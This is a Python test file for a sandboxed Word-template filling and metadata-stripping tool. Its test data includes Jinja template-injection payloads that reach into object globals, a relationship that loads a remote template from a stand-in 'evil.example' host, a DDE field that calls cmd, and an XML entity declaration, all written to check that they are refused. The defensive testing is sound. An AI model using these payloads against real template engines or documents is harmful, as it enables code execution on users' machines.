"""A template can ask for values and for nothing else; the process that fills it has nothing to give."""

import io
import os
import subprocess
import sys
import zipfile
from typing import Any

import docx
import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from icma.legalaid.assembly import filling, sandbox, walls
from icma.legalaid.assembly.opening import opened, packed
from icma.legalaid.assembly.reasons import Stopped
from icma.legalaid.assembly.sandbox import Unrenderable, render_docx, work

pytestmark = pytest.mark.one_engine  # papers: no database says otherwise

PID = "{{ cycler.__init__.__globals__.os.getpid() }}"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body: str = "x", header: str = "", title: str = "") -> bytes:
    paper = docx.Document()
    paper.add_paragraph(body)
    if header:
        paper.sections[0].header.paragraphs[0].text = header
    paper.core_properties.title = title
    paper.core_properties.author = "Gizli Müəllif"
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


def with_part(name: str, content: bytes, **changes: tuple[bytes, bytes]) -> bytes:
    """A Word file with one part more, and a text of another part changed."""
    with zipfile.ZipFile(io.BytesIO(word())) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    for part, (before, after) in changes.items():
        real = {
            "types": "[Content_Types].xml",
            "rels": "word/_rels/document.xml.rels",
            "body": "word/document.xml",
        }
        assert before in parts[real[part]]
        parts[real[part]] = parts[real[part]].replace(before, after)
    if name:
        parts[name] = content
    return packed(parts)


def words_of(data: bytes) -> str:
    return "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)


def stopped(data: bytes, context: dict[str, Any] | None = None) -> str:
    with pytest.raises(Stopped) as caught:
        filling.render(data, context or {})
    return caught.value.reason


def test_values_stay_values_whatever_they_hold() -> None:
    value = "Gülçöhrə <w:p/> & {{ 7*7 }} {% x %}\x0c\x07 “ış”"
    out = render_docx(word("Kimə: {{ a }}"), {"a": value})
    assert words_of(out) == "Kimə: Gülçöhrə <w:p/> & {{ 7*7 }} {% x %} “ış”"
    assert docx.Document(io.BytesIO(out)).core_properties.author == ""


@pytest.mark.parametrize("place", ["body", "header", "title"])
def test_code_in_body_header_or_property_is_refused_in_the_process(place: str) -> None:
    with pytest.raises(Unrenderable) as caught:
        render_docx(word(**{"body": "x", place: PID}), {})
    assert caught.value.reason == "forbidden"


@pytest.mark.parametrize(
    "tag",
    [
        "{% include 'a' %}", "{% import 'a' as b %}", "{% extends 'a' %}", "{% macro m() %}{% endmacro %}",
        "{{ a.__class__ }}", "{{ a|attr('__class__') }}", "{{ a['__class__'].x }}", "{{ a.upper() }}", "{{ a|safe }}",
        "{{ a * 999999999 }}", "{{ range }}{{ range(9) }}", "{% for x in a %}{{ loop.cycle('a') }}{% endfor %}",
        "{{ self.x() }}", "{{ a[b] }}",
    ],
)  # fmt: skip
def test_nothing_but_values_choices_and_repetitions(tag: str) -> None:
    assert stopped(word(tag), {"a": "mətn", "b": "c"}) == "forbidden"


def test_a_missing_value_is_named_also_in_a_row() -> None:
    with pytest.raises(Unrenderable) as caught:
        render_docx(word("{{ qurum }}"), {})
    assert (caught.value.reason, caught.value.detail) == ("undefined", "qurum")
    with pytest.raises(Stopped) as inner:
        filling.render(word("{% for r in rows %}{{ r.items }}{% endfor %}"), {"rows": [{"a": "1"}]})
    assert (inner.value.reason, inner.value.detail) == ("undefined", "items")


def test_a_huge_loop_ends_by_memory_and_a_long_one_by_the_clock(monkeypatch: pytest.MonkeyPatch) -> None:
    loops = "{% for i in a %}{% for j in a %}{{ t }}{% endfor %}{% endfor %}"
    with pytest.raises(Unrenderable) as caught:
        render_docx(word(loops), {"a": ["x"] * 2000, "t": "ə" * 100_000})
    assert caught.value.reason == "too_large"
    monkeypatch.setitem(sandbox.SECONDS, "docx", 0.01)
    with pytest.raises(Unrenderable) as caught:
        render_docx(word("x"), {})
    assert caught.value.reason == "too_slow"


OUTSIDE = (
    b"</Relationships>",
    b'<Relationship Id="rId99" Type="http://x/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
)
FIELD = (b"<w:t>x</w:t>", b'<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd "x"</w:instrText>')


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (with_part("word/vbaProject.bin", b"x"), "macros"),
        (with_part("word/embeddings/a.xlsx", b"PK"), "macros"),
        (with_part("", b"", types=(b"document.main+xml", b"document.macroEnabled.main+xml")), "macros"),
        (with_part("", b"", rels=OUTSIDE), "external"),
        (with_part("", b"", body=FIELD), "external"),
        (with_part("word/endnotes.xml", b"<a>{{<b/>x }}</a>"), "forbidden"),
        (with_part("docProps/custom.xml", b"<a>{% include 'x' %}</a>"), "forbidden"),
        (with_part("word/x.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), "forbidden"),
        (with_part("word/x.xml", "<a/>".encode("utf-16")), "broken"),
        (with_part("../x.xml", b"<a/>"), "broken"),
        (with_part("word/media/a.png", b"\0" * 50_000_000), "too_large"),
        (word()[:9000], "broken"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted"),
        (b"hello", "kind"),
        (word("{{ a"), "syntax"),
    ],
    ids=lambda value: value if isinstance(value, str) else "file",
)
def test_a_file_that_acts_points_outside_or_is_damaged_is_refused_with_its_reason(
    data: bytes, reason: str
) -> None:
    assert stopped(data) == reason


def test_only_plain_values_cross_into_the_process() -> None:
    for value in (object(), b"x", {"a": {1: "x"}}, [object()]):
        with pytest.raises(TypeError):
            render_docx(b"", {"a": value})


@pytest.mark.skipif(sys.platform != "linux", reason="the walls are Linux's")
def test_the_process_has_no_environment_keys_network_disk_or_other_programs(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    monkeypatch.setenv("ICMA_SECRET_KEY", "gizli")
    key = tmp_path / "key"
    key.write_text("gizli")
    for job in ("probe", "probe_page"):
        held, _none = work(job, [], secret=str(key), folder=str(tmp_path))
        if job == "probe_page" and not walls.has_landlock():
            del held["no_read"]
        assert held and all(held.values()), held
    assert key.exists() and os.listdir(tmp_path) == ["key"]


def test_the_probe_tells_when_there_is_no_wall(tmp_path: Any) -> None:
    key = tmp_path / "key"
    key.write_text("gizli")
    code = (
        "from icma.legalaid.assembly import probe as p\n"
        "p.os.fork = p.os.execv = p.os.kill = lambda *a: 0\n"
        f"print(sorted(k for k, v in p.probe({str(key)!r}, {str(tmp_path)!r})[0].items() if v))"
    )
    ran = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True, env={**os.environ, "A": "1"}
    )
    assert not set(eval(ran.stdout)) - {"no_read", "no_debugger"}  # its own file is gone by then


def test_a_stripped_document_keeps_its_words_and_loses_its_maker() -> None:
    out, data = filling.strip(word("Salam, {{ ad }}"), "docx")
    paper = docx.Document(io.BytesIO(data[0]))
    assert paper.paragraphs[-1].text == "Salam, {{ ad }}"
    assert paper.core_properties.author == "" and b"Gizli" not in data[0]
    assert "docProps/app.xml" not in opened(data[0])


NS15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def test_a_stripped_document_loses_its_pictures_places_and_the_list_of_people() -> None:
    exif = Image.Exif()
    exif[0x013B] = "Gizli Fotoqraf"
    photo, paper = io.BytesIO(), docx.Document()
    Image.new("RGB", (60, 40), "lightblue").save(photo, "JPEG", exif=exif, comment=b"Gizli qeyd")
    drawn, about = io.BytesIO(), PngInfo()
    about.add_text("Author", "Gizli Fotoqraf")
    Image.new("RGB", (60, 40), "white").save(drawn, "PNG", pnginfo=about)
    several, more = io.BytesIO(), Image.effect_noise((60, 40), 80)
    more.save(several, "MPO", save_all=True, append_images=[more], exif=exif)
    for one in (photo, drawn, several):
        one.seek(0)
        paper.add_picture(one)
    out = io.BytesIO()
    paper.save(out)
    parts = opened(out.getvalue())
    assert parts["word/media/image3.jpg"].count(b"Gizli") == 2, (
        "a second picture stands behind the first one's end"
    )
    parts["word/people.xml"] = (
        f'<w15:people xmlns:w15="{NS15}"><w15:person w15:author="Gizli"/></w15:people>'.encode()
    )
    assert "docProps/thumbnail.jpeg" in parts
    clean = opened(filling.strip(packed(parts), "docx")[1][0])
    assert not any(b"Gizli" in content for content in clean.values())
    assert "docProps/thumbnail.jpeg" not in clean and b"thumbnail" not in clean["_rels/.rels"]
    for name in ("word/media/image1.jpg", "word/media/image2.png", "word/media/image3.jpg"):
        with Image.open(io.BytesIO(clean[name])) as seen:
            seen.load()
            assert seen.size == (60, 40) and getattr(seen, "n_frames", 1) == 1
    with Image.open(io.BytesIO(clean["word/media/image3.jpg"])) as seen:
        assert len(seen.getcolors(4096)) > 20, "all of its scan is there"


@pytest.mark.parametrize("mark", [
    '<w:ins w:id="1" w:author="Gizli" w:date="2026-01-01T00:00:00Z"><w:r><w:t>x</w:t></w:r></w:ins>',
    '<w:del w:id="1" w:author="Gizli"><w:r><w:delText>silinmiş</w:delText></w:r></w:del>',
    '<w:pPr><w:sectPr><w:sectPrChange w:id="1" w:author="Gizli"><w:sectPr/></w:sectPrChange></w:sectPr></w:pPr>',
])  # fmt: skip
def test_what_was_taken_out_of_a_document_and_who_did_it_is_not_handed_on(mark: str) -> None:
    parts = opened(word())
    body = parts["word/document.xml"]
    parts["word/document.xml"] = body.replace(b"<w:sectPr", f"<w:p>{mark}</w:p><w:sectPr".encode(), 1)
    with pytest.raises(Stopped) as caught:
        filling.strip(packed(parts), "docx")
    assert caught.value.reason == "changes"
